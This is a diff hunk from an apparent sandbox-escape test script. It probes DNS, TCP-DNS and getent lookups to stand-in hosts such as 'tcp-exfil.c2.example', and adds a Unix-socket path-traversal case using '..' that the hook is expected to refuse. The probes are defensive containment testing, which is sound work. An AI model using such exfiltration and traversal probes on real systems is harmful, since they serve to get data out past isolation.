@@ -53,6 +53,9 @@ function unix(p) {
   note('dns-suffix ' + await udp('registry.test.c2.example'));
   note('dns-tcp ' + await tcpQuery('tcp-exfil.c2.example'));
   note('unix ' + await unix(path.join(project, '..', 'outside.sock')));
+  // the same socket by a name that starts inside the project: the hook sees
+  // the name, so a ".." component is refused, not resolved
+  note('unix-dotdot ' + await unix(project + '/../outside.sock'));
   // the C library's resolver (glibc: A and AAAA over one connected socket)
   const ge = cp.spawnSync('getent', ['hosts', 'glibc-exfil.c2.example'], { timeout: 5000 });
   note('getent status ' + ge.status);
